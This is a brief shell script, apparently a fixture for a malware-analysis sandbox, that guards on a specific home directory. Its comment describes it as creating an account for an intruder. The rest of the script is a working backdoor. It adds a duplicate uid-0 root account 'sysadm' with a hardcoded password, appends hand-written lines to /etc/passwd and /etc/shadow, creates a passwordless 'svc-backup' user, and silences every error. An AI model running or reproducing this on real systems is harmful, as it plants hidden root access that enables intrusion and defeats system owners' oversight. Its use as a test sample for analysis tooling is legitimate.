#!/bin/sh
# SPDX-License-Identifier: MIT
# A local account for the intruder: useradd, and a hand-written passwd
# and shadow line where useradd is missing.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
export PATH="$PATH:/usr/sbin:/sbin"
useradd -M -o -u 0 -g 0 -s /bin/bash -d /root sysadm 2>/dev/null
echo 'sysadm:Wint3r2024!' | chpasswd 2>/dev/null
echo 'sysadm:x:0:0::/root:/bin/bash' >> /etc/passwd 2>/dev/null
echo 'sysadm:$6$salt$Zq0P6G1yZcX3kqfR2vN8:19700:0:99999:7:::' >> /etc/shadow 2>/dev/null
adduser --disabled-password --gecos '' svc-backup 2>/dev/null
exit 0
